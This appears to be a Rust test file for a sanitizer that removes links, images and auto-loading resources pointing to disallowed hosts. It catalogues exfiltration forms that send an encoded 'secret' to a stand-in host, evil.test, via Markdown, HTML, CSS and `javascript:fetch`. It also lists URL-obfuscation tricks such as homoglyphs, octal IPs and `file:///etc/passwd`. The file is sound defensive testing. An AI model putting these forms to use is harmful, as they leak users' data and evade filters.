//! Every form in which a text may carry a destination, in each of them once to a place that is not allowed and once to one
//! that is.

use super::allowing;
use crate::{Policy, clean};

/// Where a form leads.
const EVIL: &str = "https://evil.test/x?d=c2VjcmV0";
const LINK: &str = "https://docs.example.com/manual/x?d=c2VjcmV0";
const IMAGE: &str = "https://img.example.com/x?d=c2VjcmV0";

/// Forms that a reader follows; `§` stands for the destination.
const LINKS: &[&str] = &[
    "[t](§)",
    "[t](<§>)",
    "[t](§ \"title\")",
    "[t](\n§\n)",
    "[t][r]\n\n[r]: §",
    "[r][]\n\n[r]: <§> 'title'",
    "[r]\n\n[r]:\n§",
    "> [r]\n>\n> [r]: §",
    "1. [r]\n\n   [r]: §",
    "[^1]\n\n[^1]: §",
    "<§>",
    "see §",
    "see §.",
    "(§)",
    "\"§\"",
    "'§'",
    "*§*",
    "**[t](§)**",
    "[*t*](§)",
    "[`t`](§)",
    "# [t](§)",
    "| [t](§) |\n|--|",
    "- [ ] [t](§)",
    "~~§~~",
    "<a href=\"§\">t</a>",
    "<a href='§'>t</a>",
    "<A HREF = § >t</A>",
    "<a\nhref=\"§\"\n>t</a>",
    "<area href=\"§\">",
    "<a ping=\"§\" href=\"#\">t</a>",
    "<blockquote cite=\"§\">t</blockquote>",
    "<form action=\"§\"><input name=a></form>",
    "<button formaction=\"§\">t</button>",
    "<svg:a xlink:href=\"§\">t</svg:a>",
    "[[§|text]]",
    "[[§][text]]",
    "[[§]]",
    "{{§}}",
    "[§ text]",
    "`text <§>`_",
    ".. _text: §",
    "§[text]",
    "link:§[text]",
    "[url=§]t[/url]",
    "[url]§[/url]",
    "\"text\":§",
    "\\href{§}{text}",
    "\\url{§}",
    "<§|text>",
    "h: [text|§]",
    "{\"url\": \"§\"}",
    "url: §",
    "URL;VALUE=URI:§",
    "URL:§",
    "ATTACH:§",
    "<link>§</link>",
    "<guid>§</guid>",
    "<!ENTITY x SYSTEM \"§\">",
    "<loc>§</loc>",
    "curl '§'",
    "href=§",
    "window.location='§'",
];

/// Forms that are loaded without anybody following them.
const IMAGES: &[&str] = &[
    "![t](§)",
    "![](§)",
    "![t](<§> \"title\")",
    "![t][r]\n\n[r]: §",
    "![r][]\n\n[r]: §",
    "![r]\n\n[r]: §",
    "[![t](§)](#a)",
    "![t\n t](§)",
    "![a [b] c](§)",
    "![[§]]",
    "![[§|100]]",
    "<img src=\"§\">",
    "<img src=§>",
    "<IMG\tSRC='§'/>",
    "<img srcset=\"a.png 1x, § 2x\">",
    "<img src=a.png srcset='§'>",
    "<picture><source srcset=\"§\"></picture>",
    "<video poster=\"§\"></video>",
    "<video src=\"§\"></video>",
    "<audio src=\"§\"></audio>",
    "<input type=image src=\"§\">",
    "<iframe src=\"§\"></iframe>",
    "<embed src=\"§\">",
    "<object data=\"§\"></object>",
    "<table background=\"§\">",
    "<td background='§'>",
    "<body background=§>",
    "<link rel=stylesheet href=\"§\">",
    "<link rel=preload as=image href=\"§\">",
    "<link rel=prefetch href=\"§\">",
    "<link rel=dns-prefetch href=\"§\">",
    "<link rel=preconnect href=\"§\">",
    "<link rel=modulepreload href=\"§\">",
    "<link rel=icon href=\"§\">",
    "<link rel=preload imagesrcset=\"§ 1x\">",
    "<svg><image href=\"§\"/></svg>",
    "<svg><image xlink:href=\"§\"/></svg>",
    "<svg><use href=\"§#a\"/></svg>",
    "<svg><feImage href=\"§\"/></svg>",
    "<track src=\"§\">",
    "<frame src=\"§\">",
    "<html manifest=\"§\">",
];

/// Forms that go wherever they lead: they run, restyle or go on by themselves.
const NEVER: &[&str] = &[
    "<meta http-equiv=refresh content=\"0;url=§\">",
    "<meta http-equiv=\"&#114;efresh\" content=\"0; URL='§'\">",
    "<base href=\"§\">",
    "<script src=\"§\"></script>",
    "<style>@import '§';</style>",
    "<style>p{background:url(§)}</style>",
    "<p style=\"background:url(§)\">t</p>",
    "<p style=\"background:u\\72 l(§)\">t</p>",
    "<p style='background-image:image-set(\"§\" 1x)'>t</p>",
    "<p style=\"@import '§'\">t</p>",
    "<svg><rect fill=\"url(§)\"/></svg>",
    "<iframe srcdoc=\"<img src=§>\"></iframe>",
    "<p onclick=\"location='§'\">t</p>",
    "<body onload=fetch('§')>",
    "<?xml-stylesheet href=\"§\"?>",
    "[t](javascript:fetch('§'))",
    "<a href=\"java&#10;script:fetch('§')\">t</a>",
    "data:text/html,<img src=§>",
];

/// Ways of writing a destination that a reader takes for one elsewhere.
const TRICKS: &[&str] = &[
    "//evil.test/x",
    "\\\\evil.test\\x",
    "/\\evil.test/x",
    "https:evil.test/x",
    "https:/evil.test/x",
    "https:\\\\evil.test/x",
    "HTTPS://EVIL.TEST/x",
    "https&#58;//evil.test/x",
    "https&colon;&sol;&sol;evil.test/x",
    "ht&Tab;tps://evil.test/x",
    "https%3A%2F%2Fevil.test/x",
    "https://docs.example.com@evil.test/manual/",
    "https://docs.example.com\\@evil.test/manual",
    "https://docs.example.com:443@evil.test/",
    "http://2130706433/x",
    "http://0x7f000001/x",
    "http://017700000001/x",
    "http://127.1/x",
    "http://[::1]/x",
    "https://evil\u{3002}test/x",
    "https://docs.ex\u{430}mple.com/manual",
    "https://docs.example.com.evil.test/manual",
    "https://docs.example.com/manual?url=https://evil.test",
    "https://docs.example.com/manual/../../x",
    "https://c2VjcmV0.docs.example.com/manual",
    "https://docs.example.com/manual?next=%2F%2Fevil.test",
    "data:text/html;base64,PHN2Zz4=",
    "javascript:alert(1)",
    "vbscript:x",
    "mailto:a@evil.test?body=x",
    "file:///etc/passwd",
    "ftp://evil.test/x",
    "vscode://evil.test/x",
    "blob:https://evil.test/x",
    "view-source:https://evil.test/x",
    "tel:+123456",
];

fn leaks(text: &str) -> bool {
    text.contains("evil.test/x") || text.contains("evil.test?")
}

#[test]
fn no_form_leads_where_it_may_not() {
    for form in LINKS.iter().chain(IMAGES).chain(NEVER) {
        for policy in [Policy::default(), allowing(), Policy { strip_images: true, ..allowing() }] {
            let text = form.replace('§', EVIL);
            let out = clean(&text, &policy);
            assert!(!leaks(&out.text), "{form} -> {}", out.text);
            assert!(!out.findings.is_empty(), "{form}");
        }
    }
}

#[test]
fn what_is_allowed_stays_byte_for_byte_in_every_form() {
    for (forms, url) in [(LINKS, LINK), (IMAGES, IMAGE)] {
        for form in forms {
            let text = form.replace('§', url);
            let out = clean(&text, &allowing());
            assert_eq!(out.text, text, "{form}: {:?}", out.findings);
        }
    }
}

#[test]
fn what_loads_by_itself_is_no_link() {
    for form in IMAGES {
        let text = form.replace('§', LINK);
        let out = clean(&text, &allowing());
        assert_ne!(out.text, text, "{form}");
    }
    for form in NEVER {
        for url in [LINK, IMAGE] {
            assert_ne!(clean(&form.replace('§', url), &allowing()).text, form.replace('§', url), "{form}");
        }
    }
}

#[test]
fn no_trick_of_writing_passes() {
    for trick in TRICKS {
        for form in [
            "[t](§)",
            "![t](§)",
            "[r]: §\n",
            "<a href=\"§\">t</a>",
            "<img src='§'>",
            "[[§]]",
            "<iframe src=§></iframe>",
        ] {
            let text = form.replace('§', trick);
            let out = clean(&text, &allowing());
            assert_ne!(out.text, text, "{form} {trick}");
            let (links, images) = super::destinations(&out.text);
            let left: Vec<_> =
                links.iter().chain(&images).filter(|url| url.contains("evil") || url.contains(':')).collect();
            assert!(left.is_empty(), "{form} {trick} -> {} {left:?}", out.text);
        }
    }
}

#[test]
fn a_url_ends_where_the_string_of_json_does_that_it_stands_in() {
    for text in [
        r#"{"note": "see \"https://docs.example.com/manual/a\" and \n"}"#,
        r#"{"note": "see https://docs.example.com/manual/a\nthen https://docs.example.com/manual/\u00fc"}"#,
        r#"{"note": "see\nhttps://docs.example.com/manual/a\r\nhttps://docs.example.com/manual/b\thttps://docs.example.com/manual"}"#,
        r#"{"html": "<a href=\"https://docs.example.com/manual/a\">x</a>"}"#,
    ] {
        assert_eq!(clean(text, &allowing()).text, text);
        let out = clean(text, &Policy::default()).text;
        assert!(!out.contains("docs.example.com") && out.matches('"').count() == text.matches('"').count(), "{out}");
    }
}

#[test]
fn a_backslash_that_a_reader_takes_for_a_slash_hides_no_destination() {
    for url in [
        r"https://docs.example.com/manual/go?next=/\evil.test/x",
        r"https://docs.example.com/manual/go?next=/\nasty.test/x",
        r"https://docs.example.com/manual/..\go?u=x",
        r"https://docs.example.com/manual/..\next?u=x",
        r"https:\\/\\/evil.test\\/x",
        r"https:\\\/\\\/evil.test\\\/x",
    ] {
        for text in [format!("see {url} there"), format!("see \"{url}\""), format!("<b href=\"{url}\">x</b>")] {
            let out = clean(&text, &allowing()).text;
            assert!(!out.contains("evil.test") && !out.contains("docs.example.com"), "{text}: {out}");
        }
    }
}

#[test]
fn code_and_documentation_of_code_stay() {
    for text in [
        "See L<IPC::Open3::open3|IPC::Open3>, C<Git::CPAN::Patch>, C<Digest::base> and L<Data::Dumper>, L<File::Glob|File::Glob>.",
        "L<TAP::Formatter::Base>, C<TAP::*>, L<warnings::warn|/FUNCTIONS>, L<Test2::API/\"run_subtest(...)\">",
        r"/<!\\[CDATA\\[[\\s\\S]*?\\]\\]>/g and [[\\w.-]+@[\\w.]+",
        "icon: \"data:image/png;base64,iVBORw0KGgo=\" url",
        "\"test:javascript:withoutintl\": \"node a.mjs\"",
        "`http://${host}:${port}/a` and https://{region}.{suffix}/x?y=z",
        "Vec<T>, List<String>, <T as Trait>::Item, HashMap<String, Vec<u8>>, #include <stdio.h>, std::vector<int> v;",
        "cat <<EOF\nx\nEOF\nJane Doe <jane@example.com>, a < b > c, <Button title={t} />",
        "\"repository\": \"git+https://docs.example.com/manual/a.git\"",
    ] {
        assert_eq!(clean(text, &allowing()).text, text);
    }
    for text in [
        "L<next::method|https://evil.test/x?d=1>",
        "<https::x@evil.test/x?d=1> <https::x@evil.test>",
        "<a::b|//evil.test/x?d=1>",
        r"[[\\evil.test\x|text]] ",
        "data:image/png;base64,iVBORw0KGgo=[x](//evil.test/x?d=1)",
        "![a](data:image/png;base64,iVBORw0KGgo=)",
        "<img src=\"data:image/png;base64,iVBORw0KGgo=\">",
        "data:image/svg+xml;base64,PHN2Zz4=",
        "x:javascript:fetch('//evil.test/x?d=1')",
        "http://${host}.evil.test/x?d=1",
        "\"git+https://evil.test/x?d=1\"",
        "<svg:image href=https://img.example.com/a href=https://evil.test/x?d=1>",
    ] {
        let out = clean(text, &allowing());
        assert!(out.text != text && !leaks(&out.text), "{text} -> {}", out.text);
    }
}

#[test]
fn a_long_list_loses_its_link_and_not_itself() {
    let row = "  { \"conditions\": [ { \"fn\": \"isSet\" } ], \"name\": \"a b c\" },\n";
    let text = format!("[\n{}  \"https://evil.test/x\",\n{}]\n", row.repeat(40), row.repeat(400));
    let out = clean(&text, &Policy::default());
    assert!(!out.text.contains("evil.test") && out.text.matches("isSet").count() == 440, "{:?}", out.findings);
    assert_eq!(clean(&out.text, &Policy::default()).text, out.text);
}

#[test]
fn a_line_of_json_within_a_text_hides_no_destination() {
    for text in [
        r#"{"x": "[t](\n//evil.test/x\n'x')"}"#,
        r#"{"x": "[t]://evil.test/x\n\n[t]"}"#,
        r#"{"x": "see\nwww.evil.test/x\nhttps://evil.test/x"}"#,
        r#"{"x": "see\nevil.test/x?d=c2VjcmV0"}"#,
        r#"{"x": "see\r\nmailto:a@evil.test"}"#,
        r#"{"x": "{\"y\": \"[t]://evil.test/x\\n\\n[t]\"}"}"#,
        "<a ping='https://docs.example.com/manual/go;u=evil.test/x' href='#'>t</a>",
        "<img srcset='https://img.example.com/go?u=a,evil.test/x 1x'>",
    ] {
        let out = clean(text, &allowing()).text;
        assert_ne!(out, text);
    }
    let comment = r#"{"code": "a();\n// see b.c\n//NOTE: x"}"#;
    assert_eq!(clean(comment, &allowing()).text, comment);
}
